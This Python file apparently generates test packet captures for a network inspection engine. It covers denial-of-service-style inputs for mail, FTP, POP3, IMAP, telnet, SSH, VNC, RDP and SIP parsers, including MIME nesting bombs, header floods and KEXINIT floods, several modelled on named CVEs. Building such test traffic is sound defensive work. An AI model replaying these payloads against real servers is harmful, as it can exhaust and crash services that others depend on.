# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on SMTP and MIME, FTP, POP3, IMAP, telnet, SSH, RFB, RDP, SIP: protocols of texts and lines,
and of handshakes."""
import struct

from attacks_http import TEXT
from catalogue import connect, entry, host, one_segment, rounds

HELO = b"EHLO a.example\r\n"


def smtp(cap, i=0):
    flow = connect(cap, 25, i)
    flow.to_client(b"220 mail.example ESMTP\r\n")
    flow.to_server(HELO)
    flow.to_client(b"250-mail.example\r\n250-PIPELINING\r\n250 CHUNKING\r\n")
    return flow


def envelope(flow):
    for command, reply in ((b"MAIL FROM:<a@example.com>", b"250 ok"),
                           (b"RCPT TO:<b@example.com>", b"250 ok"), (b"DATA", b"354 go on")):
        flow.to_server(command + b"\r\n")
        flow.to_client(reply + b"\r\n")


def mails(cap, size):
    i = 0
    while cap.bytes < size:
        flow = smtp(cap, i)
        send_mail(flow, b"From: a@example.com\r\nTo: b@example.com\r\nSubject: hello\r\n\r\n" +
                  TEXT[i:i + min(8000, max(300, size - cap.bytes))].replace(b"\n", b"\r\n"))
        flow.close()
        i += 1


def send_mail(flow, text):
    envelope(flow)
    one_segment(flow, 0, text + b"\r\n.\r\n")
    flow.to_client(b"250 queued\r\n")


def mail_entry(what, source, **options):
    """An entry of one hostile mail, which the function gives."""
    def add(make):
        def both(cap, size):
            if size is not None:
                mails(cap, size)
            else:
                send_mail(smtp(cap), make())
        both.__name__ = make.__name__
        entry("MIME: " + what, source, proto="smtp", **options)(both)
        return make
    return add


MULTIPART = b"From: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"


@mail_entry("parts in parts in parts", "CVE-2020-3481 style; nesting of MIME", short=True)
def mime_nesting():
    return b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
                    for i in range(14000))


@mail_entry("mails in mails", "nesting of message/rfc822")
def mime_messages():
    return b"Content-Type: message/rfc822\r\n\r\n" * 25000


@mail_entry("thousands of parts, each a file", "CVE-2018-15919 style; many parts", short=True)
def mime_parts():
    return MULTIPART + b"".join(
        b"--b\r\nContent-Disposition: attachment; filename=%d\r\n\r\nx\r\n" % i
        for i in range(13000))


@mail_entry("empty parts", "many parts")
def mime_empty_parts():
    return MULTIPART + b"--b\r\n\r\n" * 90000


@mail_entry("header fields without end", "many headers", short=True)
def mime_headers():
    return b"".join(b"X%d: a\r\n" % i for i in range(70000))


@mail_entry("a header field without end", "quadratic joins of folded lines", short=True)
def mime_folded():
    return b"Subject: a\r\n" + b" b\r\n" * 200000


@mail_entry("parameters without end", "loops over parameters")
def mime_parameters():
    return b"Content-Type: text/plain; " + b"a=b; " * 180 + b"\r\n" + b"".join(
        b"Content-Disposition: attachment;" + b" a*%d=b;" % i * 90 + b"\r\n" for i in range(600))


@mail_entry("URLs of two bytes, without end", "log amplification: URLs of mails", short=True)
def mime_urls():
    return b"Content-Type: text/plain\r\n\r\n" + b"".join(
        b"http://%x.a/ " % i + (b"\r\n" if i % 50 == 0 else b"") for i in range(60000))


@mail_entry("text that is almost a URL", "searches that start again")
def mime_url_starts():
    return b"Content-Type: text/html\r\n\r\n" + (b"http://http://" * 60 + b"\r\n") * 1000


@mail_entry("base64 in lines of two bytes", "decoders that copy", short=True)
def mime_base64():
    return b"Content-Type: application/x\r\nContent-Transfer-Encoding: base64\r\n" \
        b"Content-Disposition: attachment; filename=a\r\n\r\n" + b"QQ\r\n" * 200000


@mail_entry("quoted-printable of broken escapes", "decoders that copy")
def mime_quoted():
    return b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + \
        b"=4=\r\n" * 150000


@mail_entry("boundaries of a long common start", "CVE-2014-0050, boundaries")
def mime_boundary():
    return b"Content-Type: multipart/mixed; boundary=" + b"-" * 69 + b"x\r\n\r\n" + \
        (b"-" * 71 + b"\r\n") * 12000


@entry("SMTP: many recipients, and an attachment for each record of files",
       "log amplification: recipients by record", proto="smtp", short=True)
def smtp_recipients_files(cap, size):
    if size is not None:
        mails(cap, size)
        return
    for i in range(6):
        flow = smtp(cap, i)
        flow.to_server(b"MAIL FROM:<a@example.com>\r\n")
        flow.to_client(b"250 ok\r\n")
        one_segment(flow, 0, b"RCPT TO:<somebody@example.com>\r\n" * 1000)
        one_segment(flow, 1, b"250 ok\r\n" * 1000)
        flow.to_server(b"DATA\r\n")
        flow.to_client(b"354 go on\r\n")
        one_segment(flow, 0, MULTIPART + b"".join(
            b"--b\r\nContent-Disposition: attachment; filename=%d\r\n\r\nx\r\n" % i
            for i in range(800)) + b"--b--\r\n.\r\n")


@entry("SMTP: BDAT chunks of one byte", "CVE-2017-16943 style; chunks", proto="smtp", short=True)
def smtp_bdat(cap, size):
    if size is not None:
        mails(cap, size)
        return
    flow = smtp(cap)
    flow.to_server(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\n")
    flow.to_client(b"250 ok\r\n250 ok\r\n")
    for _ in range(400):
        one_segment(flow, 0, b"BDAT 1\r\na" * 120)
        one_segment(flow, 1, b"250 ok\r\n" * 120)


@entry("SMTP: commands without a reply", "requests that stay open", proto="smtp", short=True)
def smtp_commands(cap, size):
    if size is not None:
        mails(cap, size)
        return
    flow = smtp(cap)
    one_segment(flow, 0, b"NOOP\r\n" * 130000)


@entry("SMTP: mails of no bytes", "log amplification: records by transaction", proto="smtp",
       short=True)
def smtp_tiny_mails(cap, size):
    if size is not None:
        mails(cap, size)
        return
    flow = smtp(cap)
    for _ in range(400):
        one_segment(flow, 0, b"MAIL FROM:<>\r\nRSET\r\n" * 40)
        one_segment(flow, 1, b"250 a\r\n" * 80)


@entry("SMTP: lines without an end", "buffers of unfinished lines", proto="smtp")
def smtp_long_line(cap, size):
    if size is not None:
        mails(cap, size)
        return
    for i in range(15):
        flow = smtp(cap, i)
        for _ in range(600):
            flow.send(0, 24, b"a" * 30)


def dialogue(cap, size, port, start, hostile, ordinary):
    """hostile: data that a client, and a server, send in pieces by turns; ordinary: pairs of
    a request and an answer, again and again in new connections."""
    if size is None:
        flow = connect(cap, port)
        for side, data in [*start, *hostile]:
            one_segment(flow, side, data)
        return
    for i in rounds(cap, size, 0):
        flow = connect(cap, port, i)
        for side, data in [*start, *ordinary]:
            one_segment(flow, side, data)
            if cap.bytes >= size:
                return
        flow.close()


FTP_START = [(1, b"220 ftp\r\n"), (0, b"USER a\r\n"), (1, b"331 ok\r\n"), (0, b"PASS a\r\n"),
             (1, b"230 ok\r\n")]
FTP_ORDINARY = [(0, b"PWD\r\n"), (1, b'257 "/"\r\n'), (0, b"TYPE I\r\n"), (1, b"200 ok\r\n"),
                (0, b"CWD /pub/directory\r\n"), (1, b"250 ok\r\n")] * 3


@entry("FTP: commands without a reply", "requests that stay open", proto="ftp", short=True)
def ftp_commands(cap, size):
    dialogue(cap, size, 21, FTP_START, [(0, b"NOOP\r\n" * 130000)], FTP_ORDINARY)


@entry("FTP: ports announced without end", "expectations that stay open", proto="ftp", short=True)
def ftp_ports(cap, size):
    dialogue(cap, size, 21, FTP_START, [
        part for i in range(400) for part in (
            (0, b"".join(b"PORT 10,1,0,0,%d,%d\r\nRETR a\r\n" % (i % 256, j) for j in range(40))),
            (1, b"200 ok\r\n150 ok\r\n" * 40))], FTP_ORDINARY)


@entry("FTP: a reply of many lines", "answers without end", proto="ftp", short=True)
def ftp_reply(cap, size):
    dialogue(cap, size, 21, FTP_START, [(0, b"STAT\r\n"), (1, b"211-a\r\n" * 110000)],
             FTP_ORDINARY)


@entry("FTP: lines without an end", "buffers of unfinished lines", proto="ftp")
def ftp_long_line(cap, size):
    dialogue(cap, size, 21, FTP_START, [(0, b"a" * 700) for _ in range(1000)], FTP_ORDINARY)


POP3_START = [(1, b"+OK pop\r\n"), (0, b"USER a\r\n"), (1, b"+OK\r\n"), (0, b"PASS a\r\n"),
              (1, b"+OK\r\n")]


@entry("POP3: commands without a reply", "requests that stay open", proto="pop3", short=True)
def pop3_commands(cap, size):
    dialogue(cap, size, 110, POP3_START, [(0, b"NOOP\r\n" * 130000)],
             [(0, b"STAT\r\n"), (1, b"+OK 3 300\r\n")] * 5)


@entry("POP3: a list without end", "answers without end", proto="pop3", short=True)
def pop3_list(cap, size):
    dialogue(cap, size, 110, POP3_START, [(0, b"LIST\r\n"), (1, b"+OK\r\n" + b"1 1\r\n" * 150000)],
             [(0, b"STAT\r\n"), (1, b"+OK 3 300\r\n")] * 5)


@entry("IMAP: commands without a reply", "requests that stay open", proto="imap")
def imap_commands(cap, size):
    dialogue(cap, size, 143, [(1, b"* OK imap\r\n"), (0, b"a CAPABILITY\r\n")],
             [(0, b"a NOOP\r\n" * 100000)], [(1, b"a OK done\r\n")] * 4)


@entry("telnet: options without end", "CVE-2020-10188 style; option loops", short=True, proto="telnet")
def telnet_options(cap, size):
    dialogue(cap, size, 23, [(1, b"\xff\xfd\x18\xff\xfd\x20"), (0, b"\xff\xfb\x18")],
             [(1, b"\xff\xfd\x18" * 250000), (1, b"\xff\xfa\x18" + b"a" * 30000)],
             [(1, b"login: "), (0, b"root\r\n"), (1, b"password: "), (0, b"secret\r\n")] * 3)


SSH_BANNERS = [(0, b"SSH-2.0-OpenSSH_9.0\r\n"), (1, b"SSH-2.0-OpenSSH_9.0\r\n")]


def ssh_packet(kind, body):
    pad = 8 + -(len(body) + 6 + 8) % 8
    return struct.pack(">IBB", len(body) + 2 + pad, pad, kind) + body + b"\0" * pad


def kex(names):
    return ssh_packet(20, b"x" * 16 + (struct.pack(">I", len(names)) + names) * 10 + b"\0" * 5)


SSH_RULE = "alert ssh any any -> any any (ssh.hassh; content:\"nowhere\"; sid:1;)\n" \
           "alert ssh any any -> any any (ssh.hassh.string; content:\"nowhere\"; sid:2;)\n"


@entry("SSH: key exchanges of long lists, without end", "CVE-2016-8858, KEXINIT flood",
       rules=SSH_RULE, proto="ssh", short=True)
def ssh_kex(cap, size):
    dialogue(cap, size, 22, SSH_BANNERS, [(0, kex(b"aes128-ctr," * 300) * 20)],
             [(0, kex(b"aes128-ctr")), (1, kex(b"aes128-ctr"))])


@entry("SSH: packets of no bytes", "tiny records", proto="ssh")
def ssh_tiny(cap, size):
    dialogue(cap, size, 22, SSH_BANNERS, [(0, ssh_packet(2, b"") * 40000)],
             [(0, kex(b"aes128-ctr")), (1, kex(b"aes128-ctr"))])


@entry("SSH: a banner that never ends", "buffers of unfinished lines", proto="ssh")
def ssh_banner(cap, size):
    dialogue(cap, size, 22, SSH_BANNERS[1:], [(0, b"SSH-2.0-" + b"a" * 700)] +
             [(0, b"a" * 700)] * 900, SSH_BANNERS)


@entry("RFB: rectangles and messages without end", "tiny messages", short=True, proto="rfb")
def rfb_messages(cap, size):
    start = [(1, b"RFB 003.008\n"), (0, b"RFB 003.008\n"), (1, b"\1\1"), (0, b"\1"),
             (1, b"\0\0\0\0"), (0, b"\1"), (1, struct.pack(">HH16sI", 800, 600, b"\x20" * 16, 4) +
                                            b"name")]
    dialogue(cap, size, 5900, start, [(0, b"\3\0\0\0\0\0\0\1\0\1" * 70000)],
             [(0, b"\3\0\0\0\0\0\0\1\0\1")] * 10)


@entry("RFB: a security reason of 4 GB", "lengths that promise much", proto="rfb")
def rfb_reason(cap, size):
    start = [(1, b"RFB 003.008\n"), (0, b"RFB 003.008\n")]
    dialogue(cap, size, 5900, start, [(1, b"\0\xff\xff\xff\xff" + b"a" * 800000)], [
        (1, b"\1\1"), (0, b"\1"), (1, b"\0\0\0\0")])


def tpkt(body):
    return struct.pack(">BBH", 3, 0, 4 + len(body)) + body


X224 = tpkt(b"\x2a\xe0\0\0\0\0\0Cookie: mstshash=user\r\n\1\0\x08\0\0\0\0\0")


@entry("RDP: connection requests without end", "transactions without an answer", proto="rdp",
       short=True)
def rdp_requests(cap, size):
    dialogue(cap, size, 3389, [(0, X224)], [(0, X224 * 16000)],
             [(1, tpkt(b"\x0e\xd0\0\0\x12\x34\0\2\0\x08\0\0\0\0\0"))])


def sip(headers, i=0):
    return b"INVITE sip:b@example.com SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.1\r\nFrom: <sip:a@a>\r\n" \
        b"To: <sip:b@b>\r\nCall-ID: %d\r\nCSeq: 1 INVITE\r\n%s\r\n" % (i, headers)


@entry("SIP: headers without end", "many headers", proto="sip", short=True)
def sip_headers(cap, size):
    for i in rounds(cap, size, 600):
        cap.udp(host(i % 100), 5060, "192.168.0.1", 5060,
                sip(b"a: b\r\n" * 210 if size is None else b"Contact: <sip:a@a>\r\n", i))


@entry("SIP: requests without an answer", "transactions that stay open", proto="sip", short=True)
def sip_requests(cap, size):
    for i in rounds(cap, size, 12000):
        if size is None:
            cap.udp("10.0.0.1", 5060, "192.168.0.1", 5060,
                    b"INVITE a SIP/2.0\r\nV: a\r\nCSeq: 1 INVITE\r\n\r\n")
        else:
            cap.udp(host(i % 100), 5060, "192.168.0.1", 5060, sip(b"", i))


@entry("SIP: a description with media without end", "loops over SDP", proto="sip")
def sip_sdp(cap, size):
    body = b"v=0\r\no=a 1 1 IN IP4 a\r\ns=a\r\nt=0 0\r\n" + b"m=audio 1 a 0\r\na=a\r\n" * 55
    for i in rounds(cap, size, 600):
        head = b"Content-Type: application/sdp\r\nContent-Length: %d\r\n"
        cap.udp(host(i % 100), 5060, "192.168.0.1", 5060,
                sip(head % len(body), i) + body if size is None else
                sip(head % 50, i) + body[:50])
